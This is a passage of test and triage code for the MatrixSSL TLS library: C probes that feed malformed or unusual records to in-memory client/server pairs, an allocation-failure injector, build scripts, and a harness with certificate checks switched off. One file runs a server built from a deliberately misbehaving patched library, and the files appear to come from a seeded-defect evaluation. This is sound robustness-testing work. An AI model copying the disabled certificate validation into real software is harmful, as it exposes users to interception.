            connectOnce(svrKeys, clnKeys, sid, blocks[i][0], blocks[i][1],
                "second connection");
            matrixSslDeleteSessionId(sid);
            _exit(0);
        }
        waitpid(pid, &status, 0);
        if (WIFSIGNALED(status))
        {
            printf("    child killed by signal %d\n", WTERMSIG(status));
        }
    }
    matrixSslDeleteKeys(clnKeys);
    matrixSslDeleteKeys(svrKeys);
    matrixSslClose();
    return 0;
}
