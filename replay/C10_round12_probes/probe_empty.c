/*
 *  probe_empty.c - side observation probe (NOT the seeded defect).
 *
 *  Zero-length application_data records are legal (RFC 5246 6.2.1, RFC 8446
 *  5.1: "Zero-length fragments of Application Data MAY be sent, as they are
 *  potentially useful as a traffic analysis countermeasure").  MatrixSSL
 *  documents matrixSslEncodeWritebuf(ssl, 0) as "send out a blank ssl
 *  record".  This probe sends one empty record followed by ten bytes, in both
 *  directions, for a CBC suite, a GCM suite (TLS 1.2) and TLS 1.3, and
 *  reports what happens.  It always exits 0 on a harness level; the verdicts
 *  are printed.
 */
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "matrixssl/matrixsslApi.h"

#include "testkeys/EC/256_EC_KEY.h"
#include "testkeys/EC/256_EC.h"
#include "testkeys/EC/256_EC_CA.h"

#define SINK_MAX (256 * 1024)

typedef struct
{
    ssl_t *ssl;
    const char *name;
    unsigned char *sink;      /* application data received so far */
    uint32 sinkLen;
    int hsComplete;
    int alertLevel, alertDesc; /* last alert received, -1 if none */
    int fatal;                 /* library reported an error */
} peer_t;

static int g_fail;

static int32 certCb(ssl_t *ssl, psX509Cert_t *cert, int32 alert)
{
    (void) ssl; (void) cert; (void) alert;
    return 0; /* the test certificates are not what is being tested here */
}

/* Hand the bytes one side has queued to the other side.
   Returns the number of bytes moved, < 0 on a library error. */
static int32 transfer(peer_t *from, peer_t *to)
{
    unsigned char *out, *in, *pt;
    int32 outLen, inLen, n, rc, moved = 0;
    uint32 ptLen;

    while ((outLen = matrixSslGetOutdata(from->ssl, &out)) > 0)
    {
        inLen = matrixSslGetReadbuf(to->ssl, &in);
        if (inLen <= 0)
        {
            to->fatal = 1;
            return -1;
        }
        n = outLen < inLen ? outLen : inLen;
        memcpy(in, out, n);
        rc = matrixSslSentData(from->ssl, n);
        if (rc == MATRIXSSL_HANDSHAKE_COMPLETE)
        {
            from->hsComplete = 1;
        }
        else if (rc < 0)
        {
            from->fatal = 1;
            return -1;
        }
        moved += n;

        rc = matrixSslReceivedData(to->ssl, n, &pt, &ptLen);
        for (;; )
        {
            if (rc < 0)
            {
                printf("    %s: matrixSslReceivedData failed: %d\n",
                    to->name, (int) rc);
                to->fatal = 1;
                return -1;
            }
            if (rc == MATRIXSSL_HANDSHAKE_COMPLETE)
            {
                to->hsComplete = 1;
                break;
            }
            if (rc == MATRIXSSL_APP_DATA)
            {
                if (to->sinkLen + ptLen > SINK_MAX)
                {
                    printf("    %s: more application data than was ever sent\n",
                        to->name);
                    to->fatal = 1;
                    return -1;
                }
                memcpy(to->sink + to->sinkLen, pt, ptLen);
                to->sinkLen += ptLen;
                rc = matrixSslProcessedData(to->ssl, &pt, &ptLen);
                continue;
            }
            if (rc == MATRIXSSL_RECEIVED_ALERT)
            {
                to->alertLevel = pt[0];
                to->alertDesc = pt[1];
                rc = matrixSslProcessedData(to->ssl, &pt, &ptLen);
                if (to->alertLevel == SSL_ALERT_LEVEL_FATAL)
                {
                    return -1;
                }
                continue;
            }
            /* MATRIXSSL_REQUEST_SEND, MATRIXSSL_REQUEST_RECV, PS_SUCCESS */
            break;
        }
    }
    return moved;
}

/* Shuttle data in both directions until both sides are quiet. */
static int pump(peer_t *a, peer_t *b)
{
    int32 m1, m2;
    int guard = 0;

    do
    {
        m1 = transfer(a, b);
        if (m1 < 0)
        {
            /* let a possible alert travel back so that it can be reported */
            (void) transfer(b, a);
            return -1;
        }
        m2 = transfer(b, a);
        if (m2 < 0)
        {
            (void) transfer(a, b);
            return -1;
        }
    }
    while ((m1 > 0 || m2 > 0) && ++guard < 1000);
    return 0;
}

static int sendApp(peer_t *p, const unsigned char *data, uint32 len)
{
    unsigned char *buf;
    int32 avail, rc;
    uint32 n, off = 0;

    while (off < len)
    {
        avail = matrixSslGetWritebuf(p->ssl, &buf, len - off);
        if (avail <= 0)
        {
            printf("    %s: matrixSslGetWritebuf failed: %d\n", p->name,
                (int) avail);
            return -1;
        }
        n = (uint32) avail < len - off ? (uint32) avail : len - off;
        memcpy(buf, data + off, n);
        rc = matrixSslEncodeWritebuf(p->ssl, n);
        if (rc < 0)
        {
            printf("    %s: matrixSslEncodeWritebuf(%u) failed: %d\n", p->name,
                (unsigned) n, (int) rc);
            return -1;
        }
        off += n;
    }
    return 0;
}

static void describeAlert(const peer_t *p)
{
    if (p->alertLevel >= 0)
    {
        printf("    %s received alert level %d description %d\n",
            p->name, p->alertLevel, p->alertDesc);
    }
}

/* Send len bytes from 'from' to 'to' and check that exactly those bytes
   arrive. Returns 0 if they did. */
static int roundTrip(peer_t *from, peer_t *to, uint32 len)
{
    static unsigned char msg[SINK_MAX];
    uint32 i;
    static unsigned char seed = 1;

    for (i = 0; i < len; i++)
    {
        /* never 0 at the end, never all zero: a stripped or a kept padding
           byte cannot hide in the data */
        msg[i] = (unsigned char) ((i * 7 + seed) % 251 + 1);
    }
    seed++;
    to->sinkLen = 0;
    from->sinkLen = 0;
    if (sendApp(from, msg, len) < 0)
    {
        return -1;
    }
    if (pump(from, to) < 0)
    {
        printf("    %u bytes %s -> %s: connection broke down\n",
            (unsigned) len, from->name, to->name);
        describeAlert(from);
        describeAlert(to);
        return -1;
    }
    if (to->sinkLen != len)
    {
        printf("    %u bytes %s -> %s: %u bytes were delivered\n",
            (unsigned) len, from->name, to->name, (unsigned) to->sinkLen);
        if (to->sinkLen > len && memcmp(to->sink, msg, len) == 0)
        {
            printf("    (the data is followed by %u extra bytes, "
                "the first one is 0x%02x)\n",
                (unsigned) (to->sinkLen - len), to->sink[len]);
        }
        return -1;
    }
    if (memcmp(to->sink, msg, len) != 0)
    {
        printf("    %u bytes %s -> %s: delivered data differs\n",
            (unsigned) len, from->name, to->name);
        return -1;
    }
    return 0;
}


static int probe(int32 versionFlag, psCipher16_t suite, const char *name)
{
    sslKeys_t *svrKeys = NULL, *clnKeys = NULL;
    sslSessOpts_t opts;
    peer_t cln, svr, *from, *to;
    psCipher16_t ciphers[1];
    unsigned char *buf;
    unsigned char ten[10] = { 1, 2, 3, 4, 5, 6, 7, 8, 9, 10 };
    int32 rc;
    int dir, bad = 0;

    memset(&cln, 0, sizeof(cln));
    memset(&svr, 0, sizeof(svr));
    cln.name = "client"; svr.name = "server";
    cln.alertLevel = cln.alertDesc = svr.alertLevel = svr.alertDesc = -1;
    cln.sink = malloc(SINK_MAX);
    svr.sink = malloc(SINK_MAX);
    printf("%s\n", name);

    matrixSslNewKeys(&svrKeys, NULL);
    matrixSslNewKeys(&clnKeys, NULL);
    if (matrixSslLoadEcKeysMem(svrKeys, EC256, sizeof(EC256),
            EC256KEY, sizeof(EC256KEY), NULL, 0) < 0 ||
        matrixSslLoadEcKeysMem(clnKeys, NULL, 0, NULL, 0,
            EC256CA, sizeof(EC256CA)) < 0)
    {
        printf("HARNESS: could not load the test keys\n");
        exit(2);
    }
    memset(&opts, 0, sizeof(opts));
    opts.versionFlag = versionFlag;
    if (matrixSslNewServerSession(&svr.ssl, svrKeys, NULL, &opts) < 0)
    {
        printf("HARNESS: matrixSslNewServerSession failed\n");
        exit(2);
    }
    memset(&opts, 0, sizeof(opts));
    opts.versionFlag = versionFlag;
    ciphers[0] = suite;
    if (matrixSslNewClientSession(&cln.ssl, clnKeys, NULL, ciphers, 1,
            certCb, NULL, NULL, NULL, &opts) < 0)
    {
        printf("HARNESS: matrixSslNewClientSession failed\n");
        exit(2);
    }
    if (pump(&cln, &svr) < 0 || !cln.hsComplete || !svr.hsComplete)
    {
        printf("  handshake failed (not what this probe is about)\n");
        return -1;
    }
    for (dir = 0; dir < 2 && !bad; dir++)
    {
        from = dir ? &svr : &cln;
        to = dir ? &cln : &svr;
        to->sinkLen = 0;
        rc = matrixSslGetWritebuf(from->ssl, &buf, 0);
        rc = matrixSslEncodeWritebuf(from->ssl, 0);
        if (rc < 0)
        {
            printf("  %s: matrixSslEncodeWritebuf(ssl, 0) refused to encode "
                "an empty record: %d\n", from->name, (int) rc);
            bad = 1;
            break;
        }
        if (sendApp(from, ten, sizeof(ten)) < 0 || pump(from, to) < 0)
        {
            printf("  %s -> %s: empty record + 10 bytes: connection broke "
                "down\n", from->name, to->name);
            describeAlert(from);
            describeAlert(to);
            bad = 1;
            break;
        }
        if (to->sinkLen != sizeof(ten) || memcmp(to->sink, ten, sizeof(ten)))
        {
            printf("  %s -> %s: %u bytes delivered instead of 10\n",
                from->name, to->name, (unsigned) to->sinkLen);
            bad = 1;
            break;
        }
        printf("  %s -> %s: empty record accepted, 10 bytes delivered\n",
            from->name, to->name);
    }
    matrixSslDeleteSession(cln.ssl);
    matrixSslDeleteSession(svr.ssl);
    matrixSslDeleteKeys(clnKeys);
    matrixSslDeleteKeys(svrKeys);
    free(cln.sink);
    free(svr.sink);
    return bad ? -1 : 0;
}

int main(void)
{
    setvbuf(stdout, NULL, _IONBF, 0);
    if (matrixSslOpen() < 0)
    {
        return 2;
    }
    (void) g_fail;
    probe(SSL_FLAGS_TLS_1_2, TLS_ECDHE_ECDSA_WITH_AES_128_CBC_SHA256,
        "TLS 1.2 TLS_ECDHE_ECDSA_WITH_AES_128_CBC_SHA256");
    probe(SSL_FLAGS_TLS_1_1, TLS_ECDHE_ECDSA_WITH_AES_128_CBC_SHA,
        "TLS 1.1 TLS_ECDHE_ECDSA_WITH_AES_128_CBC_SHA");
    probe(SSL_FLAGS_TLS_1_2, TLS_ECDHE_ECDSA_WITH_AES_128_GCM_SHA256,
        "TLS 1.2 TLS_ECDHE_ECDSA_WITH_AES_128_GCM_SHA256");
    probe(SSL_FLAGS_TLS_1_3, TLS_AES_128_GCM_SHA256,
        "TLS 1.3 TLS_AES_128_GCM_SHA256");
    probe(SSL_FLAGS_TLS_1_3, TLS_CHACHA20_POLY1305_SHA256,
        "TLS 1.3 TLS_CHACHA20_POLY1305_SHA256");
    matrixSslClose();
    return 0;
}
