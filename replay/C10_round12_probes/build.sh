#!/bin/sh
# usage: sh build.sh /tmp/seed12_C10
# Builds _seed/demo (and the two side-observation probes) against the static
# libraries of the given worktree.
set -e
ROOT=${1:-/tmp/seed12_C10}
INC="-I$ROOT -I$ROOT/core/config -I$ROOT/core/include -I$ROOT/core/osdep/include -I$ROOT/core/include/sfzcl"
LIBS="$ROOT/matrixssl/libssl_s.a $ROOT/crypto/libcrypt_s.a $ROOT/core/libcore_s.a -lpthread"
cc -O1 -g -Wall $INC -DUSE_CL_PKCS -DUSE_CL_CERTLIB \
   -o "$ROOT/_seed/demo" "$ROOT/_seed/demo.c" $LIBS
echo "built $ROOT/_seed/demo"
# Side-observation probes (not part of the pass/fail verdict)
for p in probe_empty probe_resume_pad; do
    if [ -f "$ROOT/_seed/$p.c" ]; then
        cc -O1 -g -w $INC -DUSE_CL_PKCS -DUSE_CL_CERTLIB \
           -o "$ROOT/_seed/$p" "$ROOT/_seed/$p.c" $LIBS && echo "built $ROOT/_seed/$p"
    fi
done
