/* One TLS 1.2 endpoint over a connected socket (fd = argv[2]); role = argv[1] ("server" | "client").
   The SERVER binary is linked against a scratch copy of the library patched to misbehave (hostile.diff), the CLIENT binary
   against the library under test.  Triage only. */
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>
#include "harness.h"
#include "matrixssl/matrixssllib.h"
int main(int argc, char **argv)
{
    int server = argc > 1 && !strcmp(argv[1], "server"), fd = argc > 2 ? atoi(argv[2]) : 0;
    hPeer p = {0};
    unsigned char *buf, *pt; uint32 ptLen; int32 rc, n;
    unsigned char name[16] = "ticketkeyname001", sym[32] = {1,2,3}, mac[32] = {4,5,6};
    if (server)
    {
        h_server_keys(&p);
        matrixSslLoadSessionTicketKeys(p.keys, name, sym, 32, mac, 32);
        if (h_new_server(&p, SSL_FLAGS_TLS_1_2) < 0) return 2;
    }
    else
    {
        /* the client offers exactly one curve: secp384r1 */
        sslSessOpts_t o; psCipher16_t cs[1] = { TLS_ECDHE_RSA_WITH_AES_128_GCM_SHA256 };
        memset(&o, 0, sizeof(o)); o.versionFlag = SSL_FLAGS_TLS_1_2; o.ecFlags = IS_SECP384R1;
        h_client_keys(&p); matrixSslNewSessionId(&p.sid, NULL);
        if (matrixSslNewClientSession(&p.ssl, p.keys, p.sid, cs, 1, h_certCbAllowAll, NULL, NULL, NULL, &o) < 0) return 2;
    }
    for (;;)
    {
        while ((n = matrixSslGetOutdata(p.ssl, &buf)) > 0)
        {
            if (write(fd, buf, n) != n) return 3;
            rc = matrixSslSentData(p.ssl, n);
            if (rc == MATRIXSSL_HANDSHAKE_COMPLETE) p.hsDone = 1;
            if (rc == MATRIXSSL_REQUEST_CLOSE || rc < 0) goto out;
        }
        if (p.hsDone) break;
        n = matrixSslGetReadbuf(p.ssl, &buf);
        if (n <= 0) break;
        n = read(fd, buf, n);
        if (n <= 0) break;
        if (getenv("PEER_TRACE")) fprintf(stderr, "[%s] read %d bytes, first %02x %02x%02x, hsState %d\n", argv[1], n, buf[0], buf[1], buf[2], p.ssl->hsState);
        rc = matrixSslReceivedData(p.ssl, n, &pt, &ptLen);
        while (rc == MATRIXSSL_RECEIVED_ALERT || rc == MATRIXSSL_APP_DATA)
        {
            if (rc == MATRIXSSL_RECEIVED_ALERT) fprintf(stderr, "[%s] alert %d/%d\n", argv[1], pt[0], pt[1]);
            rc = matrixSslProcessedData(p.ssl, &pt, &ptLen);
        }
        if (rc == MATRIXSSL_HANDSHAKE_COMPLETE) p.hsDone = 1;
        if (rc < 0) { fprintf(stderr, "[%s] error %d (ssl->err=%d)\n", argv[1], rc, p.ssl->err); break; }
    }
out:
    if (!server)
    {
        printf("client offered supported_groups = { secp384r1 }; the server's ServerKeyExchange uses curve id %d\n", (int) p.ssl->sec.peerCurveId);
        printf("client: handshake complete=%d\n", p.hsDone);
        printf("RESULT %s\n", p.hsDone ? "VIOLATED (the ECDHE group in force was not offered by the client)" : "ok (ServerKeyExchange refused)");
        return p.hsDone ? 1 : 0;
    }
    return 0;
}
