/* Triage tooling for C19 findings: exhaustive single allocation failure over in-memory handshakes.
   Build: see run.sh (links with -Wl,--wrap=malloc,--wrap=calloc,--wrap=realloc against a -g build of the libraries).
   usage: allocfail <scenario 12|13|13psk|ext> count           -> prints number of allocations in the scenario
          allocfail <scenario> <k>                         -> runs with the k-th allocation failing (crashes are the finding)
*/
#include <signal.h>
#include <execinfo.h>
#include <unistd.h>
#include "harness.h"
extern void *__real_malloc(size_t); extern void *__real_calloc(size_t, size_t); extern void *__real_realloc(void *, size_t);
static long g_n, g_fail = -1; static int g_armed;
static int hit(void) { if (!g_armed) return 0; g_n++; return g_n == g_fail; }
void *__wrap_malloc(size_t s) { return hit() ? NULL : __real_malloc(s); }
void *__wrap_calloc(size_t a, size_t b) { return hit() ? NULL : __real_calloc(a, b); }
void *__wrap_realloc(void *p, size_t s) { return hit() ? NULL : __real_realloc(p, s); }
static void onsegv(int sig) { void *bt[32]; int n = backtrace(bt, 32); write(2, "CRASH\n", 6); backtrace_symbols_fd(bt, n, 2); _exit(99); }

/* user hello extensions: the known finding psCopyHelloExtension (tls.c) */
static int scenario_ext(void)
{
    hPeer c = {0};
    sslSessOpts_t o;
    tlsExtension_t *ext = NULL;
    unsigned char body[8] = {0, 6, 0, 0, 3, 'a', 'b', 'c'};
    memset(&o, 0, sizeof(o));
    o.versionFlag = SSL_FLAGS_TLS_1_2;
    g_armed = 1;
    if (h_client_keys(&c) < 0) return 0;
    matrixSslNewSessionId(&c.sid, NULL);
    if (matrixSslNewHelloExtension(&ext, NULL) >= 0)
    {
        if (matrixSslLoadHelloExtension(ext, body, sizeof(body), 0) >= 0 &&
            matrixSslLoadHelloExtension(ext, body, sizeof(body), 0x1234) >= 0)
        {
            if (matrixSslNewClientSession(&c.ssl, c.keys, c.sid, NULL, 0, h_certCb, NULL, ext, NULL, &o) >= 0)
                matrixSslDeleteSession(c.ssl);
        }
        matrixSslDeleteHelloExtension(ext);
    }
    matrixSslDeleteSessionId(c.sid); matrixSslDeleteKeys(c.keys);
    g_armed = 0;
    return 0;
}

static int scenario(const char *sc)
{
    if (!strcmp(sc, "ext")) return scenario_ext();
    hPeer c = {0}, s = {0};
    static unsigned char w[1 << 16];
    int32 ver = !strcmp(sc, "12") ? SSL_FLAGS_TLS_1_2 : SSL_FLAGS_TLS_1_3;
    unsigned char name[16] = "ticketkeyname001", sym[32] = {1}, mac[32] = {2};
    int rounds = !strcmp(sc, "13psk") ? 2 : 1, i, n;
    g_armed = 1;
    if (h_server_keys(&s) < 0 || h_client_keys(&c) < 0) return 0;
    matrixSslLoadSessionTicketKeys(s.keys, name, sym, 32, mac, 32);
    for (i = 0; i < rounds; i++)
    {
        c.ssl = s.ssl = NULL; c.hsDone = s.hsDone = c.closed = s.closed = 0;
        if (h_new_server(&s, ver) < 0) break;
        if (h_new_client(&c, ver, NULL, 0, h_certCb) < 0) { matrixSslDeleteSession(s.ssl); break; }
        if (h_handshake(&c, &s) == 0)
        {
            n = h_drain(&s, w, sizeof(w)); if (n > 0) h_feed(&c, w, n);
            n = h_send_app(&c, (unsigned char *) "ping", 4, w, sizeof(w)); if (n > 0) h_feed(&s, w, n);
        }
        matrixSslDeleteSession(c.ssl); matrixSslDeleteSession(s.ssl);
    }
    matrixSslDeleteSessionId(c.sid); matrixSslDeleteKeys(c.keys); matrixSslDeleteKeys(s.keys);
    g_armed = 0;
    return 0;
}
int main(int argc, char **argv)
{
    signal(SIGSEGV, onsegv); signal(SIGBUS, onsegv); signal(SIGABRT, onsegv);
    if (argc < 3) return 2;
    if (!strcmp(argv[2], "count")) { scenario(argv[1]); printf("%ld\n", g_n); return 0; }
    g_fail = atol(argv[2]);
    scenario(argv[1]);
    return 0;
}
