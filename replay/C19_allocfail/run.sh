#!/bin/sh
# usage: run.sh [repo]   - builds a -g -O0 copy of the libraries under /tmp/dbg_tree, then fails every allocation of the
# three scenarios in turn and prints the distinct crash sites (function + file:line of the faulting frames).
R=${1:-/repo}; T=/tmp/dbg_tree
rm -rf $T; mkdir -p $T
(cd $R && tar cf - --exclude='*.o' --exclude='*.a' --exclude='*.map' --exclude=.git Makefile common.mk makefiles core crypto matrixssl configs testkeys) | (cd $T && tar xf -)
make -C $T libs CFLAGS_EXTRA="-g -O0 -fno-omit-frame-pointer" > /tmp/dbg_build.log 2>&1 || { tail /tmp/dbg_build.log; exit 1; }
cc -g -O0 -no-pie -o /tmp/allocfail $(dirname $0)/allocfail.c -I/verif/replay -I$T -I$T/core/config -I$T/core/include -I$T/core/osdep/include -I$T/core/include/sfzcl \
  -Wl,--wrap=malloc,--wrap=calloc,--wrap=realloc $T/matrixssl/libssl_s.a $T/crypto/libcrypt_s.a $T/core/libcore_s.a -lpthread -w || exit 1
: > /tmp/allocfail.sites; : > /tmp/allocfail.crashes; rm -f /tmp/af_*.err
for sc in 12 13 13psk ext; do
  n=$(/tmp/allocfail $sc count)
  echo "scenario $sc: $n allocations"
  seq 1 $n | xargs -P 12 -I{} sh -c "/tmp/allocfail $sc {} > /dev/null 2> /tmp/af_${sc}_{}.err; rc=\$?; if [ \$rc -ne 0 ]; then echo \"$sc {} \$rc\"; else rm -f /tmp/af_${sc}_{}.err; fi" >> /tmp/allocfail.crashes
done
sort -u /tmp/allocfail.crashes | wc -l
for f in /tmp/af_*.err; do
  [ -f "$f" ] || continue
  # first two library frames after the signal handler
  grep -o '\[0x[0-9a-f]*\]' $f | tr -d '[]' | sed -n '3,6p' | xargs addr2line -f -e /tmp/allocfail 2>/dev/null | paste - - | head -3 | tr '\n' '|'
  echo
done | sort | uniq -c | sort -rn > /tmp/allocfail.sites
cat /tmp/allocfail.sites | head -40
