/*
    Probes for the 'Side observations' of NOTES.md: behaviour of the
    UNMODIFIED library that seems to be at odds with C15.
    Prints CONFIRMED / not confirmed per observation; exit 1 if any is
    confirmed, 0 otherwise, 2 on harness problems.
 */
#include "harness.h"

static int confirmed = 0;

static int mkpair(ssl_t **c, ssl_t **s, sslKeys_t *ckeys, sslKeys_t *skeys,
    psSizeL_t serverBlockSize)
{
    sslSessOpts_t co, so;
    psProtocolVersion_t v13[] = { v_tls_1_3 };

    memset(&co, 0, sizeof(co));
    memset(&so, 0, sizeof(so));
    matrixSslSessOptsSetClientTlsVersions(&co, v13, 1);
    matrixSslSessOptsSetServerTlsVersions(&so, v13, 1);
    so.tls13BlockSize = serverBlockSize;
    if (matrixSslNewClientSession(c, ckeys, NULL, NULL, 0, acceptAnyCert,
            NULL, NULL, NULL, &co) < 0)
    {
        return -1;
    }
    if (matrixSslNewServerSession(s, skeys, NULL, &so) < 0)
    {
        return -1;
    }
    return 0;
}

/* O1: TLS 1.3 client, ServerHello too short to hold version + random. */
static void probe_truncated_server_hello(sslKeys_t *ckeys, sslKeys_t *skeys)
{
    static const unsigned char badSh[] = {
        0x16, 0x03, 0x03, 0x00, 0x06,   /* handshake record, 6 bytes */
        0x02, 0x00, 0x00, 0x02,         /* ServerHello, length 2 */
        0x03, 0x03                      /* legacy_version only */
    };
    static blob_t ch, sflight, out;
    ssl_t *c, *s;
    int32 r, r2, sentRc;

    printf("\n== O1: truncated ServerHello at a TLS 1.3 client ==\n");
    if (mkpair(&c, &s, ckeys, skeys, 0) < 0)
    {
        exit(2);
    }
    drain(c, &ch, NULL);
    r = feed(c, badSh, sizeof(badSh), NULL);
    drain(c, &out, &sentRc);
    printf("ReceivedData(truncated ServerHello) -> %s, client output %d "
        "bytes, SentData -> %s\n", rcName(r), out.len, rcName(sentRc));

    /* continuation: the genuine server flight */
    feed(s, ch.b, ch.len, NULL);
    drain(s, &sflight, NULL);
    r2 = feed(c, sflight.b, sflight.len, NULL);
    printf("genuine server flight afterwards: ReceivedData -> %s\n",
        rcName(r2));
    drain(c, &out, NULL);
    if (out.len > 0)
    {
        feed(s, out.b, out.len, NULL);
    }
    printf("handshake complete: client %d server %d\n",
        matrixSslHandshakeIsComplete(c), matrixSslHandshakeIsComplete(s));
    if (r >= 0 && r2 >= 0)
    {
        printf("O1 CONFIRMED: the decoding error was reported as %s, no "
            "alert, session usable afterwards\n", rcName(r));
        confirmed++;
    }
    else
    {
        printf("O1 not confirmed\n");
    }
    matrixSslDeleteSession(c);
    matrixSslDeleteSession(s);
}

/* O2: TLS 1.3 with block padding so large that the fatal alert does not fit
   into the receive buffer the decoder encodes it into. */
static void probe_padded_alert(sslKeys_t *ckeys, sslKeys_t *skeys)
{
    static blob_t rec, orig, out, pt;
    ssl_t *c, *s;
    int32 r, r2, r3;

    printf("\n== O2: bad record at a TLS 1.3 server with tls13BlockSize "
        "2048 ==\n");
    if (mkpair(&c, &s, ckeys, skeys, 2048) < 0)
    {
        exit(2);
    }
    if (handshake(c, s) < 0)
    {
        printf("O2: handshake failed, not confirmed\n");
        return;
    }
    sendApp(c, "first message", &rec);
    r = feed(s, rec.b, rec.len, &pt);
    printf("intact record: ReceivedData -> %s (%.*s)\n", rcName(r), pt.len,
        pt.b);
    sendApp(c, "second message", &rec);
    orig = rec;
    rec.b[rec.len - 1] ^= 0x01;
    r = feed(s, rec.b, rec.len, &pt);
    drain(s, &out, NULL);
    printf("corrupted record: ReceivedData -> %s, server output %d bytes\n",
        rcName(r), out.len);
    r3 = feed(s, orig.b, orig.len, &pt);
    printf("replay of its original: ReceivedData -> %s (%d plaintext "
        "bytes)\n", rcName(r3), pt.len);
    r2 = matrixSslEncodeToOutdata(s, (unsigned char *) "still alive", 11);
    printf("matrixSslEncodeToOutdata on the server afterwards -> %s\n",
        r2 >= 0 ? "encrypted a record" : rcName(r2));
    if (r2 >= 0)
    {
        drain(s, &out, NULL);
        r3 = feed(c, out.b, out.len, &pt);
        printf("client: ReceivedData -> %s (%.*s)\n", rcName(r3), pt.len,
            pt.b);
        printf("O2 CONFIRMED: after a bad_record_mac event the server still "
            "encrypts application data (no alert was sent, session not "
            "flagged)\n");
        confirmed++;
    }
    else
    {
        printf("O2 not confirmed\n");
    }
    matrixSslDeleteSession(c);
    matrixSslDeleteSession(s);
}

/* O3: plaintext ChangeCipherSpec record after the TLS 1.3 handshake. */
static void probe_late_ccs(sslKeys_t *ckeys, sslKeys_t *skeys)
{
    static const unsigned char ccs[] = { 0x14, 0x03, 0x03, 0x00, 0x01, 0x01 };
    static blob_t rec, out, pt;
    ssl_t *c, *s;
    int32 r, r2;

    printf("\n== O3: change_cipher_spec record after a completed TLS 1.3 "
        "handshake ==\n");
    if (mkpair(&c, &s, ckeys, skeys, 0) < 0)
    {
        exit(2);
    }
    if (handshake(c, s) < 0)
    {
        printf("O3: handshake failed, not confirmed\n");
        return;
    }
    r = feed(s, ccs, sizeof(ccs), NULL);
    drain(s, &out, NULL);
    printf("ReceivedData(CCS) -> %s, server output %d bytes\n", rcName(r),
        out.len);
    sendApp(c, "after ccs", &rec);
    r2 = feed(s, rec.b, rec.len, &pt);
    printf("application data afterwards: ReceivedData -> %s (%.*s)\n",
        rcName(r2), pt.len, pt.b);
    if (r >= 0 && r2 == MATRIXSSL_APP_DATA)
    {
        printf("O3 CONFIRMED: the illegal record is ignored (RFC 8446, 5.: "
            "unexpected_message), the session lives on\n");
        confirmed++;
    }
    else
    {
        printf("O3 not confirmed\n");
    }
    matrixSslDeleteSession(c);
    matrixSslDeleteSession(s);
}

/* O4: zero byte calls on a dead session. */
static void probe_poll_calls(sslKeys_t *ckeys, sslKeys_t *skeys)
{
    static const unsigned char junk[] = { 0x17, 0x03, 0x03, 0x00, 0x02, 1, 2 };
    static blob_t out;
    unsigned char *ptbuf;
    uint32 ptlen;
    ssl_t *c, *s;
    int32 r, r2, r3;

    printf("\n== O4: zero length calls on a session that sent a fatal alert "
        "==\n");
    if (mkpair(&c, &s, ckeys, skeys, 0) < 0)
    {
        exit(2);
    }
    r = feed(s, junk, sizeof(junk), NULL);
    drain(s, &out, NULL);
    printf("junk record to a fresh server: ReceivedData -> %s, output %d "
        "bytes\n", rcName(r), out.len);
    r2 = matrixSslReceivedData(s, 0, &ptbuf, &ptlen);
    r3 = matrixSslSentData(s, 0);
    printf("ReceivedData(0 bytes) -> %s, SentData(0 bytes) -> %s\n",
        rcName(r2), rcName(r3));
    if (r2 == 0 && r3 == 0)
    {
        printf("O4 CONFIRMED (harmless): both report success on the dead "
            "session; nothing is processed\n");
        confirmed++;
    }
    else
    {
        printf("O4 not confirmed\n");
    }
    matrixSslDeleteSession(c);
    matrixSslDeleteSession(s);
}

int main(void)
{
    sslKeys_t *skeys, *ckeys;

    if (matrixSslOpen() < 0)
    {
        return 2;
    }
    skeys = newServerKeys();
    ckeys = newClientKeys();
    if (skeys == NULL || ckeys == NULL)
    {
        return 2;
    }
    probe_truncated_server_hello(ckeys, skeys);
    probe_padded_alert(ckeys, skeys);
    probe_late_ccs(ckeys, skeys);
    probe_poll_calls(ckeys, skeys);
    printf("\n%d observation(s) confirmed\n", confirmed);
    return confirmed ? 1 : 0;
}
