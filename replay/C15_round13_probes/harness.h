/* Small in-memory client/server harness shared by demo.c and the probes. */
#ifndef SEED_HARNESS_H
#define SEED_HARNESS_H

#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "matrixssl/matrixsslApi.h"

#include "testkeys/RSA/2048_RSA.h"
#include "testkeys/RSA/2048_RSA_KEY.h"
#include "testkeys/RSA/2048_RSA_CA.h"

#define MAXBUF 65536

typedef struct
{
    unsigned char b[MAXBUF];
    int len;
} blob_t;

static const char *rcName(int32 rc)
{
    static char tmp[32];

    switch (rc)
    {
    case 0: return "MATRIXSSL_SUCCESS(0)";
    case MATRIXSSL_REQUEST_SEND: return "REQUEST_SEND";
    case MATRIXSSL_REQUEST_RECV: return "REQUEST_RECV";
    case MATRIXSSL_REQUEST_CLOSE: return "REQUEST_CLOSE";
    case MATRIXSSL_APP_DATA: return "APP_DATA";
    case MATRIXSSL_HANDSHAKE_COMPLETE: return "HANDSHAKE_COMPLETE";
    case MATRIXSSL_RECEIVED_ALERT: return "RECEIVED_ALERT";
    default:
        snprintf(tmp, sizeof(tmp), "error(%d)", (int) rc);
        return tmp;
    }
}

static int32_t acceptAnyCert(ssl_t *ssl, psX509Cert_t *cert, int32_t alert)
{
    (void) ssl; (void) cert; (void) alert;
    return 0;
}

static sslKeys_t *newServerKeys(void)
{
    sslKeys_t *keys;

    if (matrixSslNewKeys(&keys, NULL) < 0)
    {
        return NULL;
    }
    if (matrixSslLoadRsaKeysMem(keys, RSA2048, sizeof(RSA2048),
            RSA2048KEY, sizeof(RSA2048KEY), NULL, 0) < 0)
    {
        return NULL;
    }
    return keys;
}

static sslKeys_t *newClientKeys(void)
{
    sslKeys_t *keys;

    if (matrixSslNewKeys(&keys, NULL) < 0)
    {
        return NULL;
    }
    if (matrixSslLoadRsaKeysMem(keys, NULL, 0, NULL, 0,
            RSA2048CA, sizeof(RSA2048CA)) < 0)
    {
        return NULL;
    }
    return keys;
}

/* Take everything the session wants to send. */
static void drain(ssl_t *ssl, blob_t *out, int32 *lastSentRc)
{
    unsigned char *p;
    int32 n, rc = 0;

    out->len = 0;
    while ((n = matrixSslGetOutdata(ssl, &p)) > 0)
    {
        if (out->len + n > MAXBUF)
        {
            fprintf(stderr, "harness: blob overflow\n");
            exit(2);
        }
        memcpy(out->b + out->len, p, n);
        out->len += n;
        rc = matrixSslSentData(ssl, n);
    }
    if (lastSentRc)
    {
        *lastSentRc = rc;
    }
}

/* Give len bytes to the session; handles only the first return code.
